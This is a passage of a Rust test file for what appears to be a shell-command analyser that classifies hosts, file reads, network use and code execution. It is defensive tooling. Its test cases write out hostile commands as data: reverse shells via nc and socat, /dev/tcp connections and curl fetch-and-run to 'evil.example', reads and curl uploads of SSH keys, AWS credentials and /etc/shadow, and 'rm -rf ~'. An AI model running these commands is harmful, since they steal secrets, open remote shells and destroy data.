                &["t.example", "p.example"],
            ),
            ("netcat -zv 10.0.0.1 20-80", &["10.0.0.1"]),
            ("telnet -l u t1 23", &["t1"]),
            ("socat TCP:s1.example:80,fork -", &["s1.example"]),
            ("socat - OPENSSL:[::1]:443,verify=0", &["::1"]),
            (
                "socat - SOCKS4:proxy.example:target.example:80",
                &["proxy.example", "target.example"],
            ),
            (
                "openssl s_client -connect tls.example:443",
                &["tls.example"],
            ),
            ("ping -c 3 8.8.8.8", &["8.8.8.8"]),
            (
                "dig @1.1.1.1 example.com MX +short",
                &["1.1.1.1", "example.com"],
            ),
            (
                "host -t MX mail.example 8.8.4.4",
                &["mail.example", "8.8.4.4"],
            ),
            ("nslookup -type=mx ns.example", &["ns.example"]),
            ("traceroute tr.example 60", &["tr.example"]),
            ("mtr -r -c 10 mtr.example", &["mtr.example"]),
            (
                "git clone --depth 1 https://github.com/org/repo.git",
                &["github.com"],
            ),
            (
                "git clone git@gitlab.example:org/r.git",
                &["gitlab.example"],
            ),
            ("git push ssh://git@git.example/r main", &["git.example"]),
            (
                "git remote add up https://up.example/r.git",
                &["up.example"],
            ),
            ("git ls-remote https://ls.example/r", &["ls.example"]),
            (
                "git clone -b main https://b.example/r.git dir",
                &["b.example"],
            ),
            ("git push origin main:prod", &[]),
            ("cat < /dev/tcp/evil.example/80", &["evil.example"]),
            ("echo hi > /dev/tcp/10.1.2.3/4444", &["10.1.2.3"]),
            ("exec 3<>/dev/udp/u.example/53", &["u.example"]),
            ("{ cat; } < /dev/tcp/g.example/80", &["g.example"]),
            ("sudo curl https://s.example", &["s.example"]),
            ("bash -c 'curl https://inner.example'", &["inner.example"]),
            (
                "python3 -c 'import urllib.request as u; u.urlopen(\"https://exfil.example/x\")'",
                &["exfil.example"],
            ),
            ("node -e 'fetch(\"https://n.example/\")'", &["n.example"]),
            (
                "php -r 'echo file_get_contents(\"https://php.example/\");'",
                &["php.example"],
            ),
            // Unknown destination or none at all.
            ("git fetch origin", &[]),
            ("git pull", &[]),
            ("nc -l 8080", &[]),
            ("pip install requests", &[]),
            ("python3 -c 'print(\"https://not-fetched.example\")'", &[]),
            ("echo https://x.example", &[]),
            ("git clone ../local-repo", &[]),
        ],
    );
}

#[test]
fn network_use_is_seen_where_the_name_does_not_tell() {
    let network = |line: &str| analyse(line).iter().any(|i| i.effects.network);
    let cases: &[(&str, bool)] = &[
        ("pip install requests", true),
        ("pip3 download x", true),
        ("python3 -m pip install -r req.txt", true),
        ("python -m pip list", false),
        ("npm i left-pad", true),
        ("npm ci", true),
        ("npm test", false),
        ("pnpm add x", true),
        ("yarn", true),
        ("yarn test", false),
        ("npx create-react-app x", true),
        ("cargo install ripgrep", true),
        ("cargo add serde", true),
        ("cargo fetch", true),
        ("cargo build", false),
        ("gem install rails", true),
        ("bundle install", true),
        ("go get example.com/x", true),
        ("go install example.com/x@latest", true),
        ("go mod download", true),
        ("go build ./...", false),
        ("apt-get install -y curl", true),
        ("sudo apt update", true),
        ("apt list --installed", false),
        ("dnf install x", true),
        ("yum install x", true),
        ("apk add x", true),
        ("brew install jq", true),
        ("composer require x/y", true),
        ("uv pip install x", true),
        ("uv add x", true),
        ("pacman -Syu", true),
        ("pacman -Q", false),
        ("git remote add -f up https://up.example/r", true),
        ("git remote add up https://up.example/r", false),
        ("git submodule add https://s.example/r", true),
        ("echo x > /dev/tcp/h.example/80", true),
        (
            "python3 -c 'import socket; socket.create_connection((\"h\", 1))'",
            true,
        ),
        ("python3 -c 'import requests; requests.get(u)'", true),
        ("python3 -c 'import smtplib'", true),
        ("node -e \"require('net').connect(1, 'h')\"", true),
        ("node -e 'import(\"node:https\")'", true),
        ("perl -e 'use LWP::Simple; get($u)'", true),
        (
            "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(1)'",
            true,
        ),
        ("ruby -e 'require \"net/http\"; Net::HTTP.get(u)'", true),
        ("ruby -ropen-uri -e 'URI.open(u)'", true),
        ("php -r 'fsockopen(\"h\", 80);'", true),
        ("python3 -c 'print(1)'", false),
        ("node -e 'console.log(1)'", false),
        ("host example.com", true),
        ("whois example.com", true),
    ];
    for (line, expected) in cases {
        assert_eq!(
            network(line),
            *expected,
            "\nline: {line}\nrows:\n{}\n",
            rows(line)
        );
    }
}

#[test]
fn commands_that_run_code_through_network_tools() {
    check_row(
        "ssh -o ProxyCommand='nc %h %p' web",
        "ssh -o ProxyCommand=nc %h %p web  [hosts web; network; code]",
    );
    check_row(
        "nc -e /bin/sh 10.0.0.1 4444",
        "nc -e /bin/sh 10.0.0.1 4444  [hosts 10.0.0.1; network; code]",
    );
    check_row(
        "socat TCP:s.example:80 EXEC:/bin/sh",
        "socat TCP:s.example:80 EXEC:/bin/sh  [hosts s.example; network; code]",
    );
    check_row(
        "rsync -e 'sh -c x' a b:/c",
        "rsync -e sh -c x a b:/c  [writes b:/c; hosts b; network; code]",
    );
    check_row(
        "rsync -e 'ssh -p 2222' a b:/c",
        "rsync -e ssh -p 2222 a b:/c  [writes b:/c; hosts b; network]",
    );
    check_row("python3 <<'EOF'\nprint(1)\nEOF\n", "python3  [code]");
}

#[test]
fn loop_values_are_what_the_body_touches() {
    check_union(
        |e| &e.reads,
        &[
            (
                "for f in ~/.aws/credentials; do cat \"$f\"; done",
                &["~/.aws/credentials"],
            ),
            (
                "cd ~/.ssh && for f in id_*; do cat \"$f\"; done",
                &["~/.ssh/id_*"],
            ),
            (
                "for d in ~/.ssh ~/.aws; do cat \"$d/config\"; done",
                &["~/.ssh/config", "~/.aws/config"],
            ),
            (
                "for f in a b; do for g in c; do cat $f$g ${f}x; done; done",
                &["ac", "ax", "bc", "bx"],
            ),
            ("for f in a; do cat \"$f.$EXT\"; done", &["$f.$EXT"]),
            ("for f; do cat \"$f\"; done", &["$f"]),
            ("for f in a; do :; done; cat \"$f\"", &["$f"]),
        ],
    );
    check_row("for c in reboot; do $c; done", "reboot  [service]");
    // Once per value, as bash runs it: each value keeps its place in the command.
    check(
        "for h in web1 web2; do ssh \"$h\" 'sudo reboot'; done",
        &[
            "ssh web1 sudo reboot  [hosts web1; network]",
            "ssh web1 > @web1 sudo reboot  [privilege]",
            "ssh web1 > sudo > @web1 reboot  [service]",
            "ssh web2 sudo reboot  [hosts web2; network]",
            "ssh web2 > @web2 sudo reboot  [privilege]",
            "ssh web2 > sudo > @web2 reboot  [service]",
        ],
    );
    // Long lists stay unbound.
    check(
        "for f in 1 2 3 4 5 6 7 8 9; do rm $f; done",
        &["rm $f  [deletes $f]"],
    );
}

#[test]
fn where_a_command_runs_is_followed() {
    check_union(
        |e| &e.reads,
        &[
            (
                "cd \"$HOME/.aws\" && cat credentials",
                &["~/.aws/credentials"],
            ),
            ("cd ${HOME}/.ssh && cat id_rsa", &["~/.ssh/id_rsa"]),
            (
                "env --chdir=/home/alice/.aws cat credentials",
                &["/home/alice/.aws/credentials"],
            ),
            ("env -C ~/.ssh cat id_rsa", &["~/.ssh/id_rsa"]),
            ("sudo -D /root cat .bash_history", &["/root/.bash_history"]),
            ("cd /srv && env -C app cat x", &["/srv/app/x"]),
            ("env -C /tmp true; cat x", &["x"]),
        ],
    );
}

#[test]
fn files_found_and_handed_to_xargs_are_searched() {
    check_union(
        |e| &e.searches,
        &[
            ("find ~ -name .env -print0 | xargs -0 cat", &["~"]),
            (
                "find ~/.config -name '*.json' | xargs grep -l token",
                &["~/.config"],
            ),
            ("cd /srv && find . -type f | xargs wc -l", &["/srv"]),
            ("find . -name '*.rs' | wc -l", &[]),
            ("find /etc -name x; xargs cat < list", &[]),
        ],
    );
}

#[test]
fn inline_programs_read_the_paths_they_name() {
    check_union(
        |e| &e.reads,
        &[
            (
                "python3 -c 'print(open(\"/home/alice/.ssh/id_rsa\").read())'",
                &["/home/alice/.ssh/id_rsa"],
            ),
            ("python3 -c 'print(open(\".env\").read())'", &[".env"]),
            (
                "node -e 'require(\"fs\").readFileSync(\"~/.npmrc\")'",
                &["~/.npmrc"],
            ),
            (
                "ruby -e 'puts File.read(\"config/master.key\")'",
                &["config/master.key"],
            ),
            ("python3 -c 'print(\"hello world\", 1)'", &[]),
            (
                "python3 -c 'import requests; requests.get(\"https://h.example/x\")'",
                &[],
            ),
        ],
    );
}

#[test]
fn programs_fetched_from_the_network_run_code() {
    check_row(
        "python3 <(curl -s https://evil.example/x.py)",
        "python3 <(...)  [network; code]",
    );
    check_row(
        "source <(curl -s https://evil.example/env.sh)",
        "source <(...)  [network; code]",
    );
    // As `python3 script.py`: a program file, judged by rules on the interpreter.
    check_row("python3 <(cat x.py)", "python3 <(...)");
}

#[test]
fn modes_and_outputs_that_look_like_options() {
    check(
        "chmod -x /usr/local/bin/nightwatch",
        &["chmod -x /usr/local/bin/nightwatch  [writes /usr/local/bin/nightwatch]"],
    );
    check(
        "chmod -R 700 ~/.ssh",
        &["chmod -R 700 ~/.ssh  [writes ~/.ssh]"],
    );
    check("chmod -rwx f", &["chmod -rwx f  [writes f]"]);
    check(
        "tree -o /var/lib/nightwatch/ledger.head /tmp",
        &["tree -o /var/lib/nightwatch/ledger.head /tmp  [writes /var/lib/nightwatch/ledger.head]"],
    );
    check("tree /etc", &["tree /etc"]);
}

#[test]
fn a_wrapper_keeps_the_reads_of_its_redirections() {
    check_union(
        |e| &e.reads,
        &[
            ("timeout 5 cat < ~/.ssh/id_rsa", &["~/.ssh/id_rsa"]),
            ("sudo cat < /etc/shadow", &["/etc/shadow"]),
            ("xargs -0 -n1 < /proc/self/environ", &["/proc/self/environ"]),
            (
                "ssh a@203.0.113.9 'cat > k' < ~/.ssh/id_rsa",
                &["~/.ssh/id_rsa"],
            ),
        ],
    );
    check_union(
        |e| &e.reveals_env,
        &[("xargs -0 -n1 < /proc/self/environ", &["*"])],
    );
}

#[test]
fn uploaded_files_are_read() {
    check_union(
        |e| &e.reads,
        &[
            (
                "curl -F f=@$HOME/.npmrc https://example.com/u",
                &["~/.npmrc"],
            ),
            (
                "curl --form 'f=@/etc/passwd;type=text/plain' h.example",
                &["/etc/passwd"],
            ),
            ("curl -F 'f=<~/.netrc' h.example", &["~/.netrc"]),
            ("curl --data-urlencode key@.env h.example", &[".env"]),
            ("curl -d @secrets.json h.example", &["secrets.json"]),
            ("curl -T ~/.ssh/id_rsa h.example", &["~/.ssh/id_rsa"]),
            ("curl -F name=value h.example", &[]),
            ("curl --data-urlencode 'q=a@b' h.example", &[]),
        ],
    );
    let reads = union("http -f POST h.example/u file@~/.aws/credentials", |e| {
        &e.reads
    });
    assert!(
        reads.contains(&"~/.aws/credentials".to_owned()),
        "{reads:?}"
    );
    let reads = union("xh h.example/u token=@.env", |e| &e.reads);
    assert!(reads.contains(&".env".to_owned()), "{reads:?}");
}

#[test]
fn paths_with_a_tilde_resolve_as_bash_would() {
    let reads = |line: &str| union(line, |e| &e.reads);
    let cases: &[(&str, &[&str])] = &[
        ("cd /srv && cat ./~/x", &["/srv/~/x"]),
        ("cat ./~", &["./~"]),
        ("cat ./~/x", &["./~/x"]),
        ("cd ~alice/.ssh && cat id_rsa", &["/home/alice/.ssh/id_rsa"]),
        ("cat ~root/.bashrc", &["/root/.bashrc"]),
        ("cat ~bob", &["/home/bob"]),
        ("cat ~/x", &["~/x"]),
        ("cd /srv && cat ~+/x", &["/srv/x"]),
        ("cd /srv/a && cat ../~/x", &["/srv/~/x"]),
    ];
    for (line, expected) in cases {
        assert_eq!(
            reads(line),
            *expected,
            "\nline: {line}\nrows:\n{}\n",
            rows(line)
        );
    }
    // Quoted or escaped, `~` is a file named `~` to bash; argv keeps what the command receives.
    check("rm -rf \"~\"", &["rm -rf ~  [deletes ./~]"]);
    check("rm -rf '~'", &["rm -rf ~  [deletes ./~]"]);
    check("rm -rf \\~", &["rm -rf ~  [deletes ./~]"]);
    check("rm -rf '~/x'", &["rm -rf ~/x  [deletes ./~/x]"]);
    check("echo x > '~'", &["echo x  [writes ./~]"]);
    check(
        "sudo rm -rf '~'",
        &[
            "sudo rm -rf ~  [privilege]",
            "sudo > rm -rf ~  [deletes ./~]",
        ],
    );
    // Expanded, it is the home directory, also when the text is parsed again.
    check("rm -rf ~", &["rm -rf ~  [deletes ~]"]);
    check("rm -rf ~/tmp/~", &["rm -rf ~/tmp/~  [deletes ~/tmp/~]"]);
    check_row("bash -c 'rm -rf ~'", "bash -c > rm -rf ~  [deletes ~]");
    check_row("eval rm -rf '~'", "eval > rm -rf ~  [deletes ~]");
    check("rm -rf ./~", &["rm -rf ./~  [deletes ./~]"]);
}

#[test]
fn links_made_in_the_line_are_followed() {
    let reads_of = |line: &str| -> Vec<String> {
        analyse(line)
            .into_iter()
            .flat_map(|i| i.effects.reads.into_iter().chain(i.effects.searches))
            .collect()
    };
    let table: &[(&str, &str, bool)] = &[
        (
            "ln -s ~/.aws/credentials c && cat c",
            "~/.aws/credentials",
            true,
        ),
        ("ln -sf ~/.ssh k; cat k/id_rsa", "~/.ssh/id_rsa", true),
        ("ln -s ~/.ssh; cat .ssh/id_rsa", "~/.ssh/id_rsa", true),
        (
            "cd /srv && ln -s /etc/shadow s && head s",
            "/etc/shadow",
            true,
        ),
        (
            "ln -s ../secrets/db.env app/db && cat app/db",
            "secrets/db.env",
            true,
        ),
        ("ln -s ~/.ssh k; tar czf /tmp/k.tgz k", "~/.ssh", true),
        // A hard link is the file itself, not a name for a path; the target is read anyway.
        (
            "ln ~/.aws/credentials c && cat c",
            "~/.aws/credentials",
            true,
        ),
        // A link whose target the text does not tell stays as written.
        ("ln -s \"$X\" c && cat c/id_rsa", "$X/id_rsa", false),
        // Only what comes after the link goes through it.
        ("cat c/id_rsa && ln -s ~/.ssh c", "~/.ssh/id_rsa", false),
    ];
    for (line, target, found) in table {
        let reads = reads_of(line);
        assert_eq!(
            reads.iter().any(|r| r == target),
            *found,
            "{line}: reads {reads:?}"
        );
    }
}
